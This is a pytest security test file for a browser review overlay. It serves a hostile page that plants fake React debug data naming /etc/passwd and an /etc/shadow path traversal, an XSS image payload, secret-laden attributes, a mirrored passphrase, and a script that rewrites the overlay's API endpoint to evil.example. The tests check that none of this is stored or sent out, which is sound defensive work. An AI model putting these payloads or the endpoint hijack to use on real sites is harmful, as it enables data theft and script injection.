"""A hostile page cannot make the overlay store or send what it should not: its own development
data (a planted React fiber or owner stack), a rewritten script tag, markup built to be huge or
to carry secrets, and typed text it mirrors into names. Each attack runs in Chromium."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import HTMLResponse, Response
from starlette.routing import Route

from contract_tests.support import make_repo
from tests.test_review_browser import browser
from tests.test_review_overlay_app import Review, open_shop, pick, reviewing, send

__all__ = ["browser"]

HOSTILE = """<!doctype html><html><head><title>Hostile</title></head><body>
<main id="app">
<p id="planted">Planted</p>
<p id="elsewhere">Elsewhere</p>
<p id="climb">Climb</p>
<div id="crowd"></div>
<label>Secret <input id="secret"></label>
<button id="mirror" type="button">Mirror</button>
</main>
<script>
const tag = () => document.querySelector("script[data-maple-root]");
const root = () => tag()?.getAttribute("data-maple-root") || "";
const named = (name) => Object.defineProperty(function () {}, "name", { value: name });
// planted development data: a path outside the tree, a script for a name
document.getElementById("planted").__reactFiber$evil = {
  _debugSource: { fileName: "/etc/passwd", lineNumber: 1, columnNumber: 1 },
  _debugOwner: { type: named("<img src=x onerror=alert(1)>") },
};
// an owner stack naming another origin's module, and a path that climbs out of the tree
document.getElementById("elsewhere").__reactFiber$evil = {
  _debugStack: { stack: "Error: x\\n    at Evil (http://evil.example/app.js:1:1)" },
  _debugOwner: { type: { name: "Evil" } },
};
document.addEventListener("DOMContentLoaded", () => {
  document.getElementById("climb").__reactFiber$evil = {
    _debugSource: { fileName: root() + "/../../etc/shadow", lineNumber: 2, columnNumber: 3 },
    _debugOwner: { type: function Climber() {} },
  };
});
// a crowd of children with attributes that must not travel
const crowd = document.getElementById("crowd");
for (let i = 0; i < 3000; i++) {
  const item = document.createElement("span");
  item.setAttribute("data-secret", "token-" + i);
  item.setAttribute("style", "color: red");
  item.setAttribute("onclick", "steal()");
  item.setAttribute("title", "x".repeat(500));
  item.textContent = "item " + i + " ";
  crowd.appendChild(item);
}
// what the person types, mirrored into the button's names
document.getElementById("secret").addEventListener("input", (event) => {
  const mirror = document.getElementById("mirror");
  mirror.id = "mirror";
  mirror.setAttribute("data-testid", event.target.value);
  mirror.setAttribute("aria-label", event.target.value);
  mirror.setAttribute("value", event.target.value);
});
// the overlay's tag rewritten before it runs: comments to another host
new MutationObserver(() => {
  const tag = document.querySelector("script[data-maple-api]");
  if (tag && tag.getAttribute("data-maple-api") !== "https://evil.example/api") {
    tag.setAttribute("data-maple-api", "https://evil.example/api");
  }
}).observe(document.documentElement, { childList: true, subtree: true });
</script>
</body></html>"""


async def hostile(request: Request) -> Response:
    return HTMLResponse(HOSTILE)


APP = Starlette(routes=[Route("/{path:path}", hostile)])


@pytest.fixture(scope="module")
def review(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Review]:
    with reviewing(
        APP, make_repo(tmp_path_factory.mktemp("hostile") / "shop", "feat/shop")
    ) as served:
        yield served


@pytest.fixture
def page(browser: Any) -> Iterator[Any]:
    opened = browser.new_page(viewport={"width": 1280, "height": 800})
    opened.requested = []
    opened.on("request", lambda request: opened.requested.append(request.url))
    yield opened
    opened.close()


def stored(review: Review, body: str) -> dict[str, Any]:
    return review.comment(body)


def test_planted_development_data_never_becomes_a_source_or_a_component(
    review: Review, page: Any, tmp_path: Path
) -> None:
    open_shop(page, review, "/")
    assert (
        page.get_attribute("script[data-maple-api]", "data-maple-api") == "https://evil.example/api"
    )
    for selector, body in (
        ("#planted", "planted"),
        ("#elsewhere", "elsewhere"),
        ("#climb", "climb"),
    ):
        pick(page, selector)
        send(page, body)
    for body in ("planted", "elsewhere", "climb"):
        anchor = stored(review, body)["anchor"]
        assert "source" not in anchor, anchor
        assert "locatedBy" not in anchor, anchor
    assert "component" not in stored(review, "planted")["anchor"]  # markup for a name: dropped
    assert stored(review, "climb")["anchor"]["component"] == "Climber"  # a name is only a name
    # the rewritten tag sent nothing elsewhere: every request stayed on the proxy
    assert [url for url in page.requested if not url.startswith(review.proxy.url)] == []


def test_the_markup_copy_is_bounded_and_carries_no_handler_style_or_data(
    review: Review, page: Any
) -> None:
    open_shop(page, review, "/")
    page.evaluate("document.querySelector('#crowd span').scrollIntoView()")
    pick(page, "#crowd span:nth-child(1)")
    send(page, "crowd")
    markup = stored(review, "crowd")["anchor"]["markup"]
    assert len(markup) <= 2000
    assert "data-maple-picked" in markup
    for banned in ("token-", "data-secret", "onclick", "steal", "style=", "x" * 100):
        assert banned not in markup, banned
    assert "more -->" in markup or markup.endswith("…")


def test_what_is_typed_is_never_stored_even_where_the_page_mirrors_it(
    review: Review, page: Any
) -> None:
    open_shop(page, review, "/")
    page.fill("#secret", "hunter2-passphrase")
    for selector, body in (("#mirror", "mirror"), ("#secret", "field"), ("main", "main")):
        pick(page, selector)
        send(page, body)
    for body in ("mirror", "field", "main"):
        comment = stored(review, body)
        assert "hunter2" not in json.dumps(comment), comment["anchor"]
    assert page.evaluate("document.querySelector('#mirror').getAttribute('data-testid')") == (
        "hunter2-passphrase"
    )
